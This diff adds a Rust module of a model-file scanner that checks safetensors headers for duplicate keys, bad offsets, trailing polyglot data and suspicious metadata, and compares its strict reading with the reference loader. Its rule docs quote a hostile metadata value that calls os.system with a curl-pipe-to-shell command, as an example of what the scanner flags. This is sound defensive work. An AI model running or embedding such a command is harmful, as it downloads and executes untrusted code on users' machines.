@@ -1,0 +1,667 @@
+//! safetensors: an 8-byte little-endian header length, a JSON header, then raw
+//! tensor data.
+//!
+//! The format cannot hold code, but its header is JSON read by many parsers.
+//! modelvet reads it more strictly than the reference loader (duplicate keys,
+//! unknown fields, gaps, trailing bytes) and separately asks the reference
+//! `safetensors` crate whether it would accept the file: any disagreement is a
+//! parser differential worth a finding. Only the header is read, never the
+//! tensor data.
+
+use super::json::{self, Json, JsonError};
+use super::suspicious_text;
+use crate::finding::{abbreviate, Location};
+use crate::format::{self, Sniff};
+use crate::rule::Rule;
+use crate::scan::ScanCtx;
+use crate::severity::Severity;
+use crate::source::{read_window, ByteSource, ReadError, Window};
+use serde_json::json;
+use std::collections::BTreeMap;
+
+/// The header cap of the reference loader (`MAX_HEADER_SIZE`).
+pub const REFERENCE_MAX_HEADER: u64 = 100_000_000;
+
+/// Longest `__metadata__` value not reported as huge (64 KiB).
+const HUGE_METADATA_VALUE: usize = 64 * 1024;
+
+/// The header is not a valid safetensors header.
+pub static SAFETENSORS_MALFORMED: Rule = Rule {
+    id: "safetensors-malformed",
+    severity: Severity::Medium,
+    summary: "The safetensors header is not valid: bad length, UTF-8, JSON or tensor entry.",
+    docs: r#"
+## Why it matters
+A safetensors file holds no code, so a broken header is usually a damaged or truncated
+download. But loaders differ in what they tolerate, and a header that one parser rejects
+and another repairs is how polyglot and confusion attacks start.
+
+## Example
+A header length larger than the file, a header that is not UTF-8, a tensor entry without
+`data_offsets`, a `dtype` no loader knows.
+
+## What to do
+Download the file again and compare its SHA-256 with the hash the hub publishes. Do not
+load a file whose header modelvet cannot read.
+"#,
+};
+
+/// A JSON key occurs twice.
+pub static SAFETENSORS_DUPLICATE_KEY: Rule = Rule {
+    id: "safetensors-duplicate-key",
+    severity: Severity::High,
+    summary: "A key occurs twice in the safetensors header; parsers disagree on which one counts.",
+    docs: r#"
+## Why it matters
+JSON does not forbid duplicate keys, and parsers resolve them differently: the reference
+loader (serde with a `HashMap`) silently keeps the **last** one, others keep the first or
+fail. A file with two `model.embed.weight` entries shows a reviewer one tensor and the
+loader another, which is a classic way to hide a tampered tensor from a checker.
+
+## Example
+`{"w": {"dtype": "F32", ...}, "w": {"dtype": "F16", ...}}`
+
+## What to do
+Do not use the file. No legitimate writer produces duplicate keys.
+
+## References
+- RFC 8259 §4: "The names within an object SHOULD be unique."
+"#,
+};
+
+/// A field no safetensors writer produces.
+pub static SAFETENSORS_UNKNOWN_FIELD: Rule = Rule {
+    id: "safetensors-unknown-field",
+    severity: Severity::Low,
+    summary: "A tensor entry of the safetensors header has a field the format does not define.",
+    docs: r#"
+## Why it matters
+The reference loader ignores fields it does not know. Extra fields carry data past
+reviewers and may mean something to another parser.
+
+## Example
+`{"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8], "exec": "..."}}`
+
+## What to do
+Find out which tool wrote the field. Put free-form data in `__metadata__`, where it is visible.
+"#,
+};
+
+/// dtype × shape does not match the byte range.
+pub static SAFETENSORS_INCONSISTENT_TENSOR: Rule = Rule {
+    id: "safetensors-inconsistent-tensor",
+    severity: Severity::Medium,
+    summary: "A tensor's dtype and shape do not match its byte length, or their product overflows.",
+    docs: r#"
+## Why it matters
+The number of bytes a tensor occupies is fixed by its dtype and shape. A mismatch, or a
+shape whose product overflows 64 bits, is exactly the input that integer-overflow bugs in
+loaders are made of.
+
+## Example
+`{"dtype": "F32", "shape": [4294967296, 4294967296], "data_offsets": [0, 16]}`
+
+## What to do
+Do not load the file with a loader that does not check this itself.
+"#,
+};
+
+/// Offsets overlap, leave gaps or point outside the file.
+pub static SAFETENSORS_BAD_OFFSETS: Rule = Rule {
+    id: "safetensors-bad-offsets",
+    severity: Severity::High,
+    summary: "Tensor data ranges overlap, leave gaps, run backwards or point outside the file.",
+    docs: r#"
+## Why it matters
+The reference loader demands that tensors tile the data section exactly, in order.
+Overlapping ranges let two tensors share bytes, gaps hide bytes no tensor claims, and
+ranges beyond the end read out of bounds in careless parsers.
+
+## What to do
+Do not use the file; re-download it from a trusted source.
+"#,
+};
+
+/// Bytes after the last tensor.
+pub static SAFETENSORS_TRAILING_DATA: Rule = Rule {
+    id: "safetensors-trailing-data",
+    severity: Severity::High,
+    summary: "Bytes follow the tensor data: the file may be a polyglot carrying a second format.",
+    docs: r#"
+## Why it matters
+A safetensors file ends exactly where its last tensor ends. Bytes after that are ignored
+by lenient readers but make the file a *polyglot*: appending a zip directory or a pickle
+makes the same file loadable as a PyTorch checkpoint, which runs code. modelvet names the
+format of the trailing bytes and scans them as `<trailing data>`.
+
+## Example
+A valid safetensors file with a `torch.save` zip appended.
+
+## What to do
+Do not load the file with anything but a strict safetensors loader; better, re-export it.
+"#,
+};
+
+/// `__metadata__` holds something other than short strings.
+pub static SAFETENSORS_SUSPICIOUS_METADATA: Rule = Rule {
+    id: "safetensors-suspicious-metadata",
+    severity: Severity::Medium,
+    summary: "The `__metadata__` section holds non-string values, huge values, code, URLs or shell commands.",
+    docs: r#"
+## Why it matters
+`__metadata__` is a free-form string map. Tooling displays it and some pipelines act on
+it (model cards, conversion scripts). Code, URLs or shell commands there are either
+instructions for a downstream tool or an attempt to smuggle a payload; non-string values
+are rejected by the reference loader.
+
+## Example
+`"__metadata__": {"format": "pt", "postprocess": "import os; os.system('curl … | sh')"}`
+
+## What to do
+Read the value. Never feed metadata into `eval`, a shell or a template.
+"#,
+};
+
+/// modelvet and the reference loader disagree.
+pub static SAFETENSORS_PARSER_DIFFERENTIAL: Rule = Rule {
+    id: "safetensors-parser-differential",
+    severity: Severity::High,
+    summary:
+        "The reference safetensors loader and modelvet's strict reading disagree about this file.",
+    docs: r#"
+## Why it matters
+Two parsers that disagree about one file are an attack surface: a file accepted by the
+reference loader but flagged here (duplicate keys, unknown fields) loads with content a
+reviewer did not see; a file rejected by the reference loader but readable here is broken
+for users and may target other loaders.
+
+## What to do
+Read the other findings on this file: they say where the readings diverge.
+
+## References
+- `safetensors` crate, `SafeTensors::read_metadata`
+"#,
+};
+
+/// Rules of the safetensors scanner.
+pub const RULES: &[&Rule] = &[
+    &SAFETENSORS_MALFORMED,
+    &SAFETENSORS_DUPLICATE_KEY,
+    &SAFETENSORS_UNKNOWN_FIELD,
+    &SAFETENSORS_INCONSISTENT_TENSOR,
+    &SAFETENSORS_BAD_OFFSETS,
+    &SAFETENSORS_TRAILING_DATA,
+    &SAFETENSORS_SUSPICIOUS_METADATA,
+    &SAFETENSORS_PARSER_DIFFERENTIAL,
+];
+
+/// Bits per element of each dtype the reference loader knows.
+pub fn dtype_bits(dtype: &str) -> Option<u64> {
+    Some(match dtype {
+        "F4" => 4,
+        "F6_E2M3" | "F6_E3M2" => 6,
+        "BOOL" | "U8" | "I8" | "F8_E5M2" | "F8_E4M3" | "F8_E8M0" | "F8_E4M3FNUZ"
+        | "F8_E5M2FNUZ" => 8,
+        "I16" | "U16" | "F16" | "BF16" => 16,
+        "I32" | "U32" | "F32" => 32,
+        "I64" | "U64" | "F64" | "C64" => 64,
+        _ => return None,
+    })
+}
+
+fn ptr(key: &str) -> Location {
+    Location::JsonPointer {
+        pointer: format!("/{}", json::pointer_escape(key)),
+    }
+}
+
+/// What the strict reading found, collected before findings are raised.
+#[derive(Default)]
+struct Reading {
+    /// Number of structural problems (what makes a strict reader reject the file).
+    structural: usize,
+    tensors: Vec<TensorEntry>,
+}
+
+struct TensorEntry {
+    name: String,
+    dtype: String,
+    elements: Option<u64>,
+    begin: u64,
+    end: u64,
+}
+
+fn raise(
+    ctx: &mut ScanCtx<'_>,
+    reading: &mut Reading,
+    rule: &'static Rule,
+    loc: Location,
+    msg: String,
+) {
+    if !std::ptr::eq(rule, &SAFETENSORS_SUSPICIOUS_METADATA) {
+        reading.structural = reading.structural.saturating_add(1);
+    }
+    let f = ctx.finding(rule, loc, msg);
+    ctx.push(f);
+}
+
+/// Whether the reference loader accepts a file of `file_len` bytes with this header.
+fn reference_verdict(header_len: u64, header: &[u8], file_len: u64) -> Result<(), String> {
+    if header_len > REFERENCE_MAX_HEADER {
+        return Err("header too large".into());
+    }
+    let text = std::str::from_utf8(header).map_err(|e| format!("invalid UTF-8 in header: {e}"))?;
+    let meta: safetensors::tensor::Metadata =
+        serde_json::from_str(text).map_err(|e| format!("invalid header: {e}"))?;
+    let data_len = meta.data_len() as u64;
+    let expected = data_len
+        .checked_add(8)
+        .and_then(|v| v.checked_add(header_len));
+    if expected != Some(file_len) {
+        return Err("metadata incomplete buffer (data does not end at the end of the file)".into());
+    }
+    Ok(())
+}
+
+/// Scan a safetensors file.
+pub fn scan(src: &mut dyn ByteSource, ctx: &mut ScanCtx<'_>) -> Result<(), ReadError> {
+    let file_len = src.len();
+    let mut reading = Reading::default();
+    let prefix = read_window(src, 0, 8)?;
+    let Some(len_bytes) = prefix.get(..8).and_then(|b| <[u8; 8]>::try_from(b).ok()) else {
+        let msg = format!("file of {file_len} bytes is too short for a header length");
+        raise(
+            ctx,
+            &mut reading,
+            &SAFETENSORS_MALFORMED,
+            Location::File,
+            msg,
+        );
+        return Ok(());
+    };
+    let header_len = u64::from_le_bytes(len_bytes);
+    let max = ctx.limits().tensors.max_safetensors_header;
+    if header_len > max {
+        ctx.fact(
+            "safetensors.reference_loader",
+            json!({"accepts": false, "error": "header too large"}),
+        );
+        ctx.limit_hit(
+            "tensors.max_safetensors_header",
+            max,
+            &format!("by the declared header length {header_len}"),
+        );
+        return Ok(());
+    }
+    let data_start = 8u64.saturating_add(header_len);
+    if data_start > file_len {
+        let msg =
+            format!("header length {header_len} runs past the end of the {file_len}-byte file");
+        raise(
+            ctx,
+            &mut reading,
+            &SAFETENSORS_MALFORMED,
+            Location::ByteRange { start: 0, end: 8 },
+            msg,
+        );
+        ctx.fact(
+            "safetensors.reference_loader",
+            json!({"accepts": false, "error": "invalid header length"}),
+        );
+        return Ok(());
+    }
+    let header = read_window(src, 8, header_len)?;
+    let reference = reference_verdict(header_len, &header, file_len);
+    ctx.fact(
+        "safetensors.reference_loader",
+        match &reference {
+            Ok(()) => json!({"accepts": true}),
+            Err(e) => json!({"accepts": false, "error": abbreviate(e, 300)}),
+        },
+    );
+
+    let data_end = read_header(&header, data_start, file_len, ctx, &mut reading);
+    if let Some(data_end) = data_end {
+        trailing(src, data_start, data_end, file_len, ctx, &mut reading)?;
+    }
+    summarise(&reading, ctx);
+
+    let strict_ok = reading.structural == 0;
+    match (&reference, strict_ok) {
+        (Ok(()), false) => {
+            let f = ctx.finding(
+                &SAFETENSORS_PARSER_DIFFERENTIAL,
+                Location::File,
+                "the reference loader accepts this file, but a strict reading finds problems it silently tolerates",
+            );
+            ctx.push(f.with_help("the loader will see content that differs from what a careful reader sees; do not use the file"));
+        }
+        (Err(e), true) => {
+            let f = ctx.finding(
+                &SAFETENSORS_PARSER_DIFFERENTIAL,
+                Location::File,
+                format!("the reference loader rejects this file ({}) although its structure reads cleanly", abbreviate(e, 200)),
+            );
+            ctx.push(f.with_severity(Severity::Medium));
+        }
+        _ => {}
+    }
+    Ok(())
+}
+
+/// Read the header strictly. Returns the end of the data section (relative to
+/// the data start) if the tensor table could be read.
+fn read_header(
+    header: &[u8],
+    data_start: u64,
+    file_len: u64,
+    ctx: &mut ScanCtx<'_>,
+    reading: &mut Reading,
+) -> Option<u64> {
+    let header_loc = Location::ByteRange {
+        start: 8,
+        end: data_start,
+    };
+    let text = match std::str::from_utf8(header) {
+        Ok(t) => t,
+        Err(e) => {
+            raise(
+                ctx,
+                reading,
+                &SAFETENSORS_MALFORMED,
+                header_loc,
+                format!("header is not UTF-8: {e}"),
+            );
+            return None;
+        }
+    };
+    let max_nodes = ctx.limits().tensors.max_json_nodes;
+    let value = match json::parse(text.as_bytes(), max_nodes) {
+        Ok(v) => v,
+        Err(JsonError::TooManyNodes) => {
+            ctx.limit_hit(
+                "tensors.max_json_nodes",
+                max_nodes,
+                "in the safetensors header",
+            );
+            return None;
+        }
+        Err(JsonError::Syntax(e)) => {
+            raise(
+                ctx,
+                reading,
+                &SAFETENSORS_MALFORMED,
+                header_loc,
+                format!("header is not JSON: {e}"),
+            );
+            return None;
+        }
+    };
+    let Json::Object(entries) = value else {
+        let msg = format!("header is a JSON {}, not an object", value.kind());
+        raise(ctx, reading, &SAFETENSORS_MALFORMED, header_loc, msg);
+        return None;
+    };
+    for dup in json::duplicate_keys(&entries) {
+        let msg = format!(
+            "key `{}` occurs more than once; the reference loader keeps the last",
+            abbreviate(dup, 120)
+        );
+        raise(ctx, reading, &SAFETENSORS_DUPLICATE_KEY, ptr(dup), msg);
+    }
+    let max_tensors = ctx.limits().tensors.max_tensors;
+    for (name, entry) in &entries {
+        if name == "__metadata__" {
+            metadata(entry, ctx, reading);
+            continue;
+        }
+        if reading.tensors.len() as u64 >= max_tensors {
+            ctx.limit_hit(
+                "tensors.max_tensors",
+                max_tensors,
+                "in the safetensors header",
+            );
+            return None;
+        }
+        tensor(name, entry, ctx, reading);
+    }
+    Some(offsets(data_start, file_len, ctx, reading))
+}
+
+fn tensor(name: &str, entry: &Json, ctx: &mut ScanCtx<'_>, reading: &mut Reading) {
+    let loc = || ptr(name);
+    let short = abbreviate(name, 120);
+    let Json::Object(fields) = entry else {
+        let msg = format!("tensor `{short}` is a JSON {}, not an object", entry.kind());
+        raise(ctx, reading, &SAFETENSORS_MALFORMED, loc(), msg);
+        return;
+    };
+    for dup in json::duplicate_keys(fields) {
+        let msg = format!(
+            "tensor `{short}` has field `{}` more than once",
+            abbreviate(dup, 60)
+        );
+        raise(ctx, reading, &SAFETENSORS_DUPLICATE_KEY, loc(), msg);
+    }
+    for (k, _) in fields {
+        if !matches!(k.as_str(), "dtype" | "shape" | "data_offsets") {
+            let msg = format!("tensor `{short}` has unknown field `{}`", abbreviate(k, 60));
+            raise(ctx, reading, &SAFETENSORS_UNKNOWN_FIELD, loc(), msg);
+        }
+    }
+    let dtype = entry.get("dtype").and_then(Json::as_str);
+    let shape: Option<Vec<u64>> = match entry.get("shape") {
+        Some(Json::Array(dims)) => dims.iter().map(Json::as_u64).collect(),
+        _ => None,
+    };
+    let offsets: Option<(u64, u64)> = match entry.get("data_offsets") {
+        Some(Json::Array(o)) if o.len() == 2 => o
+            .first()
+            .and_then(Json::as_u64)
+            .zip(o.get(1).and_then(Json::as_u64)),
+        _ => None,
+    };
+    let (Some(dtype), Some(shape), Some((begin, end))) = (dtype, shape, offsets) else {
+        let msg = format!("tensor `{short}` needs a string `dtype`, an array of non-negative integers `shape` and two-integer `data_offsets`");
+        raise(ctx, reading, &SAFETENSORS_MALFORMED, loc(), msg);
+        return;
+    };
+    let Some(bits) = dtype_bits(dtype) else {
+        let msg = format!(
+            "tensor `{short}` has unknown dtype `{}`",
+            abbreviate(dtype, 40)
+        );
+        raise(ctx, reading, &SAFETENSORS_MALFORMED, loc(), msg);
+        return;
+    };
+    let elements = shape.iter().try_fold(1u64, |acc, d| acc.checked_mul(*d));
+    let bytes = elements.and_then(|n| n.checked_mul(bits)).and_then(|b| {
+        if b % 8 == 0 {
+            Some(b / 8)
+        } else {
+            None
+        }
+    });
+    match bytes {
+        None => {
+            let msg = format!("tensor `{short}`: {dtype} × {shape:?} overflows 64 bits or is not a whole number of bytes");
+            raise(ctx, reading, &SAFETENSORS_INCONSISTENT_TENSOR, loc(), msg);
+        }
+        Some(size) if end >= begin && end - begin != size => {
+            let msg = format!(
+                "tensor `{short}`: {dtype} × {shape:?} is {size} bytes but its data range [{begin}, {end}) holds {}",
+                end - begin
+            );
+            raise(ctx, reading, &SAFETENSORS_INCONSISTENT_TENSOR, loc(), msg);
+        }
+        _ => {}
+    }
+    reading.tensors.push(TensorEntry {
+        name: name.to_owned(),
+        dtype: dtype.to_owned(),
+        elements,
+        begin,
+        end,
+    });
+}
+
+fn metadata(entry: &Json, ctx: &mut ScanCtx<'_>, reading: &mut Reading) {
+    let Json::Object(fields) = entry else {
+        let msg = format!(
+            "`__metadata__` is a JSON {}, not an object of strings",
+            entry.kind()
+        );
+        raise(
+            ctx,
+            reading,
+            &SAFETENSORS_SUSPICIOUS_METADATA,
+            ptr("__metadata__"),
+            msg,
+        );
+        return;
+    };
+    for dup in json::duplicate_keys(fields) {
+        let msg = format!(
+            "`__metadata__` has key `{}` more than once",
+            abbreviate(dup, 60)
+        );
+        raise(
+            ctx,
+            reading,
+            &SAFETENSORS_DUPLICATE_KEY,
+            ptr("__metadata__"),
+            msg,
+        );
+    }
+    let mut shown = serde_json::Map::new();
+    for (k, v) in fields {
+        let loc = Location::JsonPointer {
+            pointer: format!("/__metadata__/{}", json::pointer_escape(k)),
+        };
+        let key = abbreviate(k, 60);
+        let Json::Str(s) = v else {
+            let msg = format!(
+                "`__metadata__.{key}` is a JSON {}, not a string (the reference loader rejects it)",
+                v.kind()
+            );
+            reading.structural = reading.structural.saturating_add(1);
+            raise(ctx, reading, &SAFETENSORS_SUSPICIOUS_METADATA, loc, msg);
+            continue;
+        };
+        if shown.len() < 64 {
+            shown.insert(key.clone(), abbreviate(s, 200).into());
+        }
+        if s.len() > HUGE_METADATA_VALUE {
+            let msg = format!("`__metadata__.{key}` is {} bytes long", s.len());
+            let f = ctx.finding(&SAFETENSORS_SUSPICIOUS_METADATA, loc.clone(), msg);
+            ctx.push(f.with_evidence(abbreviate(s, 200)));
+        }
+        if let Some(what) = suspicious_text(s) {
+            let msg = format!("`__metadata__.{key}` contains {what}");
+            let mut f = ctx.finding(&SAFETENSORS_SUSPICIOUS_METADATA, loc, msg);
+            if what == "a URL" {
+                f = f.with_severity(Severity::Low);
+            }
+            ctx.push(f.with_evidence(abbreviate(s, 200)));
+        }
+    }
+    ctx.fact("safetensors.metadata", serde_json::Value::Object(shown));
+}
+
+/// Check that the tensors tile `[0, data_end)` exactly; return `data_end`.
+fn offsets(data_start: u64, file_len: u64, ctx: &mut ScanCtx<'_>, reading: &mut Reading) -> u64 {
+    let mut order: Vec<(u64, u64, String)> = reading
+        .tensors
+        .iter()
+        .map(|t| (t.begin, t.end, t.name.clone()))
+        .collect();
+    order.sort();
+    let mut cursor = 0u64;
+    let mut data_end = 0u64;
+    for (begin, end, name) in &order {
+        let short = abbreviate(name, 120);
+        if end < begin {
+            let msg = format!("tensor `{short}` has a backwards data range [{begin}, {end})");
+            raise(ctx, reading, &SAFETENSORS_BAD_OFFSETS, ptr(name), msg);
+            continue;
+        }
+        if *begin > cursor {
+            let msg =
+                format!("bytes [{cursor}, {begin}) before tensor `{short}` belong to no tensor");
+            raise(ctx, reading, &SAFETENSORS_BAD_OFFSETS, ptr(name), msg);
+        } else if *begin < cursor {
+            let msg = format!("tensor `{short}` [{begin}, {end}) overlaps the previous tensor, which ends at {cursor}");
+            raise(ctx, reading, &SAFETENSORS_BAD_OFFSETS, ptr(name), msg);
+        }
+        cursor = cursor.max(*end);
+        data_end = data_end.max(*end);
+    }
+    let available = file_len.saturating_sub(data_start);
+    if data_end > available {
+        let msg = format!(
+            "tensor data ends at {data_end} but the file holds only {available} bytes of data"
+        );
+        raise(ctx, reading, &SAFETENSORS_BAD_OFFSETS, Location::File, msg);
+    }
+    data_end
+}
+
+fn trailing(
+    src: &mut dyn ByteSource,
+    data_start: u64,
+    data_end: u64,
+    file_len: u64,
+    ctx: &mut ScanCtx<'_>,
+    reading: &mut Reading,
+) -> Result<(), ReadError> {
+    let Some(start) = data_start.checked_add(data_end) else {
+        return Ok(());
+    };
+    if start >= file_len {
+        return Ok(());
+    }
+    let extra = file_len - start;
+    let mut window = Window::new(src, start, extra);
+    let head_len = u64::from(ctx.limits().scan.sniff_head_bytes);
+    let head = read_window(&mut window, 0, head_len)?;
+    let tail_len = u64::from(ctx.limits().scan.sniff_tail_bytes).min(extra);
+    let tail = read_window(&mut window, extra - tail_len, tail_len)?;
+    let kind = format::sniff(&Sniff {
+        head: &head,
+        tail: &tail,
+        len: extra,
+        path: "",
+    });
+    let msg = format!("{extra} bytes follow the tensor data (they read as {kind})");
+    raise(
+        ctx,
+        reading,
+        &SAFETENSORS_TRAILING_DATA,
+        Location::ByteRange {
+            start,
+            end: file_len,
+        },
+        msg,
+    );
+    ctx.scan_nested("<trailing data>", &mut window);
+    Ok(())
+}
+
+fn summarise(reading: &Reading, ctx: &mut ScanCtx<'_>) {
+    let mut by_dtype: BTreeMap<&str, u64> = BTreeMap::new();
+    let mut total = 0u64;
+    for t in &reading.tensors {
+        let n = t.elements.unwrap_or(0);
+        let slot = by_dtype.entry(t.dtype.as_str()).or_insert(0);
+        *slot = slot.saturating_add(n);
+        total = total.saturating_add(n);
+    }
+    ctx.fact(
+        "safetensors.tensors",
+        json!({
+            "count": reading.tensors.len(),
+            "parameters": total,
+            "parameters_by_dtype": by_dtype,
+        }),
+    );
+}
